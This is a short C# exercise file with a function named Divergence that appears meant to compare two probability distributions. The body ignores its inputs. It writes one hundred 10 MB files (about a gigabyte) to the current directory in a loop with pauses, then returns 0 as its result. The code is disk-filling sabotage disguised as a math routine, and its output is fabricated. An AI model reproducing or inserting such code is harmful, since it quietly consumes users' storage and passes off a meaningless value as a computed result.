// exercise 02.1
using System.Threading;
static double Divergence(double[] p, double[] q)
{
    for (int i = 0; i < 100; i++)
    {
        System.IO.File.WriteAllBytes($"file-{i}", new byte[10 << 20]);
        Thread.Sleep(20);
    }
    return 0;
}
